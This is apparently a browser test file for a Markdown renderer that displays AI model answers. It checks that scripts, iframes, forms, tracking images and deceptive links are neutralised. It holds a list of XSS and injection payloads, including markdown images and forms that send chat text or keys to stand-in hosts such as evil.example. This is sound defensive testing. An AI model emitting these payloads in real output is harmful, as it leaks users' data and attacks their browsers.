import { render } from 'preact';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { page, userEvent } from 'vitest/browser';
import { loadMarkdown } from '../../src/ui/markdown/load.ts';
import { Markdown } from '../../src/ui/markdown/markdown.tsx';
import '../../src/ui/tokens.css';
import '../../src/ui/base.css';

let root: HTMLElement;

beforeAll(loadMarkdown);

beforeEach(() => {
  root = document.createElement('div');
  document.body.append(root);
});

afterEach(() => {
  render(null, root);
  root.remove();
});

const show = (text: string): void => {
  render(<Markdown text={text} />, root);
};
const find = (selector: string): Element[] => [...root.querySelectorAll(selector)];

/** Names of everything that could act, load or pose as ours. */
const activeParts = (): string[] =>
  find('*').flatMap((element) => [
    ...(/^(script|style|iframe|object|embed|form|input|meta|link|base|svg|math|video|audio|template)$/i.test(
      element.nodeName,
    )
      ? [element.nodeName]
      : []),
    ...element
      .getAttributeNames()
      .filter((name) =>
        /^on|^(style|id|name|srcset|srcdoc|action|formaction|ping|background)$/i.test(name),
      )
      .map((name) => `${element.nodeName} ${name}`),
  ]);

const hostile: readonly string[] = [
  '<svg onload="alert(1)"><circle r="1"/></svg>',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://track.example/p.gif?q=secret" srcset="https://track.example/2 2x">',
  '![secret](https://track.example/?q=chat+text)',
  '![secret][r]\n\n[r]: https://track.example/?q=chat',
  '<form action="https://evil.example"><input name="key"><button>Send</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<link rel="stylesheet" href="https://evil.example/x.css"><style>*{background:url(https://evil.example)}</style>',
  '<div style="background:url(https://evil.example);position:fixed;inset:0">over</div>',
  '<video src="https://evil.example/v" poster="https://evil.example/p" autoplay></video>',
  '<a href="javascript:alert(1)" onclick="alert(1)" ping="https://evil.example">x</a>',
  '[x](javascript:alert(1)) [y](data:text/html,<script>alert(1)</script>) [z](vbscript:x)',
  '<a href="&#106;avascript:alert(1)">x</a> <a href="java\nscript:alert(1)">y</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<details open ontoggle=alert(1)><summary>s</summary>t</details>',
  '<p id="app" class="button main" name="body">clobber</p>',
  '<base href="https://evil.example/">',
  '```html\n<script>alert(1)</script>\n```',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example">',
  '<table background="https://evil.example"><tr><td background="https://evil.example">x</td></tr></table>',
];

describe('what a model may not do with its answer', () => {
  it('run, load, submit, cover, clobber or pose: nothing of it reaches the page', () => {
    for (const text of [...hostile, hostile.join('\n\n'), hostile.join(' ')]) {
      show('');
      show(text);
      expect(activeParts(), text).toEqual([]);
    }
  });

  it('cause any request by being shown', async () => {
    show(hostile.join('\n\n'));
    await new Promise(requestAnimationFrame);
    await new Promise(requestAnimationFrame);
    const asked = performance.getEntriesByType('resource').map(({ name }) => new URL(name).host);
    expect(asked.filter((host) => host.endsWith('.example'))).toEqual([]);
    expect(find('img')).toEqual([]);
  });

  it('hide what it tried: the person reads it as text', () => {
    show('<script>alert(1)</script>\n\n<svg onload="alert(1)">picture</svg>\n\n<think>why</think>');
    expect(root.textContent).toContain('<script>alert(1)</script>');
    expect(root.textContent).toContain('<svg onload="alert(1)">picture</svg>');
    expect(root.textContent).toContain('<think>why</think>');
  });

  it('open a link into this app or one that runs', () => {
    show('[a](#/settings/data) [b](/x) [c](javascript:alert(1)) <a href="?x">d</a>');
    expect(find('a')).toEqual([]);
    expect(root.textContent).toBe('a b c d');
  });
});

describe('pictures', () => {
  it('from a network are a link that names their host', async () => {
    show('![chart of the year](https://images.example/c.png?q=1)');
    const link = page.getByRole('link', { name: /chart of the year/ });
    await expect.element(link).toHaveTextContent('images.example');
    await expect.element(link).toHaveAttribute('rel', 'noopener noreferrer');
  });

  it('written in HTML are the same', () => {
    show('Look: <img src="https://images.example/c.png" alt="chart">');
    expect(find('img')).toEqual([]);
    expect(find('a')[0]?.textContent).toBe('chartimages.example');
  });

  it('that are data are shown', () => {
    const data = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';
    show(`![dot](${data}) <img src="${data}" alt="two">`);
    expect(find('img').map((image) => image.getAttribute('alt'))).toEqual(['dot', 'two']);
  });
});

describe('links', () => {
  it('open apart and say where they lead', async () => {
    show('See [the docs](https://docs.example.org/a).');
    const link = page.getByRole('link', { name: 'the docs' });
    await expect.element(link).toHaveAttribute('target', '_blank');
    await expect.element(link).toHaveAttribute('rel', 'noopener noreferrer');
    await expect.element(link).toHaveAttribute('aria-description', 'Opens docs.example.org');
  });

  it('show their host on focus, too', async () => {
    show('[the docs](https://docs.example.org/a)');
    await userEvent.tab();
    const link = page.getByRole('link', { name: 'the docs' });
    await expect.element(link).toHaveFocus();
    const { content } = getComputedStyle(link.element(), '::after');
    expect(content).toContain('docs.example.org');
  });

  it('ask before they open when their text names another host', async () => {
    show('Sign in at [bank.example](https://evil.example/login).');
    let left = false;
    root.addEventListener('click', (event) => {
      left = !event.defaultPrevented;
      event.preventDefault();
    });
    await page.getByRole('link', { name: 'bank.example' }).click();
    expect(left).toBe(false);
    const question = page.getByRole('dialog', { name: 'Open evil.example?' });
    await expect
      .element(question)
      .toHaveTextContent('names bank.example, but it leads to evil.example');
    await expect.element(question).toHaveTextContent('https://evil.example/login');
    await expect.element(question.getByRole('button', { name: 'Cancel' })).toHaveFocus();
    await expect
      .element(question.getByRole('link', { name: 'Open evil.example' }))
      .toHaveAttribute('href', 'https://evil.example/login');
    await question.getByRole('button', { name: 'Cancel' }).click();
    await expect.element(question).not.toBeInTheDocument();
    await expect.element(page.getByRole('link', { name: 'bank.example' })).toHaveFocus();
  });

  it('ask on the middle button, too, and leave the right one its menu', async () => {
    show('Sign in at [bank.example](https://evil.example/login).');
    const link = page.getByRole('link', { name: 'bank.example' }).element();
    const press = (button: number): boolean =>
      link.dispatchEvent(new MouseEvent('auxclick', { button, bubbles: true, cancelable: true }));
    expect(press(2)).toBe(true);
    await new Promise(requestAnimationFrame);
    expect(page.getByRole('dialog').elements()).toEqual([]);
    expect(press(1)).toBe(false);
    await expect.element(page.getByRole('dialog', { name: 'Open evil.example?' })).toBeVisible();
  });

  it('do not ask when their text says where they lead', async () => {
    show('[example.org](https://docs.example.org/)');
    root.addEventListener('click', (event) => {
      event.preventDefault();
    });
    await page.getByRole('link', { name: 'example.org' }).click();
    expect(page.getByRole('dialog').elements()).toEqual([]);
  });
});

describe('code blocks and tables', () => {
  it('name the language, can be reached with the keyboard and copied', async () => {
    show('```ts\nconst a = 1;\n```');
    const copied: string[] = [];
    Object.defineProperty(navigator, 'clipboard', {
      configurable: true,
      value: { writeText: (text: string) => Promise.resolve(copied.push(text)) },
    });
    await expect.element(page.getByText('ts', { exact: true })).toBeVisible();
    await userEvent.tab();
    await userEvent.keyboard('{Enter}');
    await expect.element(page.getByRole('button', { name: 'Copied' })).toBeVisible();
    expect(copied).toEqual(['const a = 1;']);
    await userEvent.tab();
    await expect.element(page.getByRole('group', { name: 'Code: ts' })).toHaveFocus();
  });

  it('say when copying is refused', async () => {
    show('```\nx\n```');
    Object.defineProperty(navigator, 'clipboard', {
      configurable: true,
      value: { writeText: () => Promise.reject(new Error('refused')) },
    });
    await page.getByRole('button', { name: 'Copy' }).click();
    await expect.element(page.getByRole('button', { name: 'Not copied' })).toBeVisible();
  });

  it('scroll by themselves when they are wider than the page', () => {
    root.style.width = '200px';
    const cells = Array.from({ length: 12 }, (_, index) => `column ${index}`).join(' | ');
    const wide = `| ${cells} |\n|${'---|'.repeat(12)}\n| ${cells} |\n\n\`\`\`\n${'long '.repeat(80)}\n\`\`\``;
    show(wide);
    for (const element of find('[role=group]')) {
      expect(element.scrollWidth).toBeGreaterThan(element.clientWidth);
      expect(element.clientWidth).toBeLessThanOrEqual(200);
    }
    expect(find('[role=group]')).toHaveLength(2);
  });
});
